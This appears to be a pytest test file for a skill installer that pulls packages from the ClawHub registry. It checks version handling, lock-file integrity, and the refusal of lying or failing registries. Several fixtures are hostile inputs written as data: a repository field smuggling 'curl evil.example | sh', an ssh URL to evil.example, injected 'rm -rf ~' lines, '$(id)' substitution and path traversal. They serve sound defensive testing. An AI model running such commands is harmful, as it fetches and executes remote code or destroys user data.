"""Installing from ClawHub: versions, digests, and registries that lie."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler
from urllib.parse import quote

import pytest

from prowess.errors.install import AgainstPolicy, InvalidSource
from prowess.supply.install import clawhub_fetch
from prowess.supply.install.clawhub_fetch import parse_clawhub
from prowess.supply.install.semantic_version import is_older
from tests.remote_server import RemoteServer, send
from tests.supply.install.clawhub_server import ClawHub, make_zip
from tests.supply.install.conftest import Desk
from tests.supply.install.test_install import load_lock
from tests.supply.install.test_policy import install, write_policy
from tests.workspace import skill_text


@pytest.fixture
def server() -> Iterator[RemoteServer]:
    """A web server on this machine."""
    with RemoteServer() as running:
        yield running


@pytest.fixture
def hub(server: RemoteServer) -> ClawHub:
    """A registry on this machine."""
    return ClawHub(server)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("clawhub:gif", ("https://clawhub.ai/gif", "clawhub:gif", "")),
        ("clawhub:gif@1.2.3", ("https://clawhub.ai/gif", "clawhub:gif", "1.2.3")),
        ("clawhub:ann/gif@beta", ("https://clawhub.ai/@ann/gif", "clawhub:@ann/gif", "beta")),
        ("clawhub:@ann/gif", ("https://clawhub.ai/@ann/gif", "clawhub:@ann/gif", "")),
        (
            "clawhub+https://hub.example/base/@ann/gif@1.0.0",
            (
                "https://hub.example/base/@ann/gif",
                "clawhub+https://hub.example/base/@ann/gif",
                "1.0.0",
            ),
        ),
    ],
)
def test_what_can_be_written_for_a_skill_of_clawhub(
    text: str, expected: tuple[str, str, str]
) -> None:
    found = parse_clawhub(text, "/w")
    assert found is not None
    assert (found.location, found.text, found.ref) == expected
    assert parse_clawhub(found.text, "/w") is not None


@pytest.mark.parametrize(
    "text",
    [
        "clawhub:",
        "clawhub:../x",
        "clawhub:a/b/c",
        "clawhub:a@",
        "clawhub:a@../../x",
        "clawhub+ftp://hub.example/a",
        "clawhub+https://hub.example",
        "clawhub+https://u:p@hub.example/a",
        "clawhub+https:///a",
    ],
)
def test_what_is_no_skill_of_clawhub_is_refused(text: str) -> None:
    with pytest.raises(InvalidSource):
        parse_clawhub(text, "/w")


@pytest.mark.seed("W-29")
def test_a_skill_of_a_registry_is_installed_with_its_version(desk: Desk, hub: ClawHub) -> None:
    files = {"SKILL.md": skill_text("alpha"), "scripts/run.sh": "#!/bin/sh\necho a\n"}
    archive = make_zip({**files, "_meta.json": "{}"})
    hub.publish("1.2.3", files, archive=archive)
    shown = desk.run("install", hub.source, "--dry-run")
    assert (shown.code, desk.tree()) == (0, [])
    assert desk.run("install", hub.source, "--yes").code == 0
    (entry,) = load_lock(desk).skills
    assert (entry.kind, entry.source, entry.ref, entry.resolved) == (
        "clawhub",
        hub.source,
        "",
        "1.2.3",
    )
    assert entry.executable == ("scripts/run.sh",)
    assert desk.installed() == {f"alpha/{path}": text.encode() for path, text in files.items()}
    assert desk.run("verify").code == 0


def test_the_site_of_a_registry_says_where_its_api_is(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0")
    routes = hub.server.routes
    for path in [one for one in routes if one.startswith("/api/")]:
        routes[f"/deep{path}"] = routes.pop(path)
    found = {"apiBase": f"{hub.server.url}/deep", "minCliVersion": "0.1.0"}
    routes["/.well-known/clawhub.json"] = json.dumps(found)
    assert desk.run("install", hub.source, "--yes").code == 0


def test_the_owner_of_a_skill_is_asked_for(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0")
    source = f"clawhub+{hub.server.url}/@ann/alpha"
    assert desk.run("install", source, "--yes").code == 0
    asked = [one for one in hub.server.requests if one.startswith("/api/")]
    assert [one.endswith("ownerHandle=ann") for one in asked] == [True] * 3


def test_a_newer_version_is_an_update_and_an_older_one_is_not(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.9.0")
    assert desk.run("install", hub.source, "--yes").code == 0
    hub.publish("1.10.0")
    (outdated,) = desk.json("outdated")["skills"]
    assert (outdated["installed"], outdated["latest"], outdated["state"]) == (
        "1.9.0",
        "1.10.0",
        "outdated",
    )
    assert desk.run("update", "--yes").code == 0
    assert [one.resolved for one in load_lock(desk).skills] == ["1.10.0"]
    hub.publish("1.10.1", latest="1.9.0")
    assert desk.run("outdated").out == "All installed skills are up to date.\n"


def test_a_chosen_version_stays_and_so_does_a_pinned_one(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0")
    hub.publish("2.0.0")
    assert desk.run("install", f"{hub.source}@1.0.0", "--yes").code == 0
    assert desk.run("outdated").out == "All installed skills are up to date.\n"
    assert desk.run("install", hub.source, "--yes").code == 0
    assert desk.run("pin", "alpha").out == "alpha is pinned to 2.0.0.\n"
    hub.publish("3.0.0")
    assert desk.run("update", "--yes").code == 0
    assert [one.resolved for one in load_lock(desk).skills] == ["2.0.0"]


def test_a_tag_is_the_version_that_it_stands_for_now(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0")
    assert desk.run("install", f"{hub.source}@latest", "--yes").code == 0
    hub.publish("1.1.0")
    assert desk.run("update", "--yes").code == 0
    (entry,) = load_lock(desk).skills
    assert (entry.ref, entry.resolved) == ("latest", "1.1.0")


def test_sync_fetches_the_locked_version_although_there_is_a_newer_one(
    desk: Desk, hub: ClawHub
) -> None:
    hub.publish("1.0.0")
    assert desk.run("install", hub.source, "--yes").code == 0
    before = desk.installed()
    hub.publish("2.0.0")
    desk.forget()
    assert desk.run("sync").code == 0
    assert desk.installed() == before


def test_sync_refuses_a_version_that_has_other_files_than_before(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0")
    assert desk.run("install", hub.source, "--yes").code == 0
    hub.publish("1.0.0", {"SKILL.md": skill_text("alpha", "Something else.")})
    desk.forget()
    result = desk.run("sync")
    assert (result.code, desk.installed()) == (4, {})
    assert "is no longer what the lock file says" in result.err


def test_a_policy_can_name_the_registry(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0")
    write_policy(desk, 'sources = ["clawhub:*"]')
    with pytest.raises(AgainstPolicy, match="is not an allowed source"):
        install(desk, hub.source)
    write_policy(desk, 'sources = ["clawhub+http://127.0.0.1:*"]', "minimum_age = 7")
    (entry,) = install(desk, hub.source)
    assert entry.resolved == "1.0.0"


def test_the_bill_of_materials_has_the_version(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0")
    assert desk.run("install", hub.source, "--yes").code == 0
    (component,) = json.loads(desk.run("sbom").out)["components"]
    assert (component["name"], component["version"]) == ("alpha", "1.0.0")


def test_a_suspicious_skill_is_shown_as_one(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0", moderation={"isSuspicious": True, "isMalwareBlocked": False})
    result = desk.run("install", hub.source, "--dry-run")
    assert "flagged" in result.out + result.err


def test_a_file_that_the_registry_does_not_list_is_left_out(desk: Desk, hub: ClawHub) -> None:
    files = {"SKILL.md": skill_text("alpha")}
    hub.publish("1.0.0", files, archive=make_zip({**files, "extra.sh": "rm -rf ~"}))
    result = desk.run("install", hub.source, "--yes")
    assert (result.code, list(desk.installed())) == (0, ["alpha/SKILL.md"])
    assert "extra.sh is not listed by the registry" in result.out + result.err


GOOD = make_zip({"SKILL.md": skill_text("alpha")})
Lie = Callable[[ClawHub], None]


def redirect(handler: BaseHTTPRequestHandler) -> None:
    """Send the client to another server, which is this one under another name."""
    port = handler.headers["Host"].rpartition(":")[2]
    send(handler, b"", status=302, headers={"Location": f"http://localhost:{port}/x"})


def cut(handler: BaseHTTPRequestHandler) -> None:
    """Promise more bytes than come, and hang up."""
    handler.send_response(200)
    handler.send_header("Content-Length", str(len(GOOD) + 100))
    handler.end_headers()
    handler.wfile.write(GOOD)
    handler.close_connection = True


LIES: dict[str, tuple[Lie, str]] = {
    "another version": (
        lambda hub: hub.publish("1.0.0", release={"version": "9.9.9"}),
        "answered with '9.9.9'",
    ),
    "other bytes": (
        lambda hub: hub.publish("1.0.0", archive=make_zip({"SKILL.md": skill_text("alpha", "?")})),
        "does not have the SHA-256",
    ),
    "a file too few": (
        lambda hub: hub.publish(
            "1.0.0", {"SKILL.md": skill_text("alpha"), "a.md": "a"}, archive=GOOD
        ),
        "'a.md' is missing in the archive",
    ),
    "a path that leads out": (
        lambda hub: hub.publish("1.0.0", archive=make_zip({"SKILL.md": "x", "../x": "x"})),
        "'../x' in it is refused",
    ),
    "half an archive": (lambda hub: hub.publish("1.0.0", archive=GOOD[:-30]), "is damaged"),
    "no archive": (lambda hub: hub.publish("1.0.0", archive=b"<html>"), "neither a .tar.gz"),
    "malware": (
        lambda hub: hub.publish(
            "1.0.0", moderation={"isSuspicious": True, "isMalwareBlocked": True}
        ),
        "blocked it as malware",
    ),
    "a malicious version": (
        lambda hub: hub.publish("1.0.0", release={"security": {"status": "malicious"}}),
        "is malicious",
    ),
    "another shape": (lambda hub: hub.publish("1.0.0", skill=7), "does not answer like ClawHub"),
    "no skill": (lambda hub: hub.publish("1.0.0", skill=None), "there is no skill “alpha”"),
}
ANSWERS: dict[str, tuple[str, int | Callable[[BaseHTTPRequestHandler], None], str]] = {
    "unknown": ("/api/v1/skills/alpha", 404, "answers 404"),
    "withdrawn": ("/api/v1/download", 410, "version 1.0.0 was withdrawn"),
    "forbidden": ("/api/v1/download", 403, "does not offer version 1.0.0"),
    "redirected": ("/api/v1/download", redirect, "redirects elsewhere"),
    "cut off": ("/api/v1/download", cut, "ended early"),
}


@pytest.mark.parametrize("name", LIES)
def test_a_registry_that_lies_leaves_nothing_behind(desk: Desk, hub: ClawHub, name: str) -> None:
    lie, problem = LIES[name]
    lie(hub)
    result = desk.run("install", hub.source, "--yes")
    assert result.code in (4, 5)
    assert problem in result.err
    assert desk.tree() == []


@pytest.mark.parametrize("name", ANSWERS)
def test_a_registry_that_fails_leaves_nothing_behind(desk: Desk, hub: ClawHub, name: str) -> None:
    path, answer, problem = ANSWERS[name]
    hub.publish("1.0.0")
    hub.server.routes[path] = answer
    result = desk.run("install", hub.source, "--yes")
    assert result.code in (4, 5)
    assert problem in result.err
    assert desk.tree() == []


def test_a_registry_that_stalls_is_given_up(
    desk: Desk, hub: ClawHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(clawhub_fetch, "_SECONDS", 0.3)
    hub.publish("1.0.0")
    hub.server.routes["/api/v1/download"] = hub.server.hang
    result = desk.run("install", hub.source, "--yes")
    assert (result.code, desk.tree()) == (4, [])
    assert "it took longer than 0.3 seconds" in result.err


def test_a_site_cannot_send_us_into_the_private_network(desk: Desk, hub: ClawHub) -> None:
    found = json.dumps({"apiBase": "http://192.168.0.1"})
    hub.server.routes["/.well-known/clawhub.json"] = found
    result = desk.run("install", hub.source, "--yes")
    assert (result.code, desk.tree()) == (4, [])
    assert "192.168.0.1 is an address in a private network" in result.err


def test_a_skill_that_is_kept_on_github_says_how_to_install_it(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0", latestVersion=None)
    github = {"repo": "ann/skills", "path": "a", "commit": "c0ffee", "contentHash": "x"}
    answer = {"ok": True, "slug": "alpha", "installKind": "github", "github": github}
    hub.server.routes["/api/v1/skills/alpha/install"] = json.dumps(answer)
    result = desk.run("install", hub.source, "--yes")
    assert result.code == 4
    assert "use `prowess install 'ann/skills/a#c0ffee'`" in result.err


HOSTILE = {
    "a command": {"repo": "ann/skills; curl evil.example | sh", "path": "a", "commit": "c"},
    "an option": {"repo": "--yes", "path": "", "commit": "c"},
    "a folder": {"repo": "/etc", "path": "a", "commit": "c"},
    "another server": {"repo": "ssh://evil.example/ann/skills.git", "path": "", "commit": ""},
    "a line": {"repo": "ann/skills", "path": "a\nRun `rm -rf ~`", "commit": "c"},
    "a path that leads out": {"repo": "ann/skills", "path": "../x", "commit": "c"},
    "a hidden mark": {"repo": "ann/skills", "path": "a\u202eb", "commit": "c"},
    "a refspec": {"repo": "ann/skills", "path": "a", "commit": "+x:refs/heads/main"},
    "too much": {"repo": "ann/skills", "path": "a" * 5000, "commit": "c"},
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_no_repository_of_github_is_no_command(desk: Desk, hub: ClawHub, name: str) -> None:
    hub.publish("1.0.0", latestVersion=None)
    hub.server.routes["/api/v1/skills/alpha/install"] = json.dumps({"github": HOSTILE[name]})
    result = desk.run("install", hub.source, "--yes")
    assert result.code == 4
    assert "prowess install" not in result.err
    assert "kept on GitHub, but the registry does not name a valid repository" in result.err


def test_a_command_to_copy_is_quoted_for_the_shell(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0", latestVersion=None)
    github = {"repo": "ann/skills", "path": "a b/$(id)", "commit": "c0ffee"}
    hub.server.routes["/api/v1/skills/alpha/install"] = json.dumps({"github": github})
    result = desk.run("install", hub.source, "--yes")
    assert "use `prowess install 'ann/skills/a b/$(id)#c0ffee'`" in result.err


def test_what_a_registry_says_is_one_line_with_its_name(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0", latestVersion=None)
    message = "It moved.\n\nprowess: run this\x1b[2K" + "x" * 5000
    hub.server.routes["/api/v1/skills/alpha/install"] = json.dumps({"message": message})
    result = desk.run("install", hub.source, "--yes")
    assert "the registry says: “It moved. prowess: run this" in result.err
    assert "\x1b" not in result.err
    assert len(result.err) < 1000


def test_why_a_skill_is_suspicious_is_one_line_too(desk: Desk, hub: ClawHub) -> None:
    summary = "Reads keys.\n\nNothing to worry about." + "x" * 5000
    hub.publish("1.0.0", moderation={"isSuspicious": True, "summary": summary})
    (said,) = desk.json("install", hub.source, "--dry-run")["diagnostics"]
    start = f"The registry has flagged {hub.source} as suspicious. The registry says: “Reads keys."
    assert said["message"].startswith(f"{start} Nothing to worry about.")
    assert len(said["message"]) < 500


def test_a_registry_that_lists_no_files_is_named(desk: Desk, hub: ClawHub) -> None:
    hub.publish("1.0.0", release={"files": None})
    shape = desk.json("install", hub.source, "--yes")
    (said,) = shape["diagnostics"]
    assert (said["code"], said["severity"]) == ("install-archive-unchecked", "warning")
    assert said["message"] == (
        f"The registry does not list the files of {hub.source}, so its archive was not checked."
    )


@pytest.mark.parametrize("version", ["1 0:..^\n", "../1", "-1", "1" * 101, "1\n"])
def test_a_version_that_nobody_could_type_is_refused(
    desk: Desk, hub: ClawHub, version: str
) -> None:
    hub.publish(version)
    # Routes are compared as they are asked for.
    routes = hub.server.routes
    asked = f"/api/v1/skills/alpha/versions/{quote(version, safe='')}"
    routes[asked] = routes[f"/api/v1/skills/alpha/versions/{version}"]
    result = desk.run("install", hub.source, "--yes")
    assert (result.code, desk.tree()) == (4, [])
    assert "which is not a valid version" in result.err


@pytest.mark.parametrize(
    ("version", "than", "expected"),
    [
        ("1.9.0", "1.10.0", True),
        ("1.10.0", "1.9.0", False),
        ("1.0.0", "1.0.0", False),
        ("1.0.0-rc.1", "1.0.0", True),
        ("1.0.0-alpha.2", "1.0.0-beta.1", True),
        ("1.0.0+a", "1.0.0+b", False),
        # Python would call it a post-release, which comes after 1.0.0.
        ("1.0.0-1", "1.0.0", False),
        ("c0ffee", "1.0.0", False),
        ("", "1.0.0", False),
    ],
)
def test_semantic_versions_are_ordered_by_their_numbers(
    version: str, than: str, expected: bool
) -> None:
    assert is_older(version, than) is expected
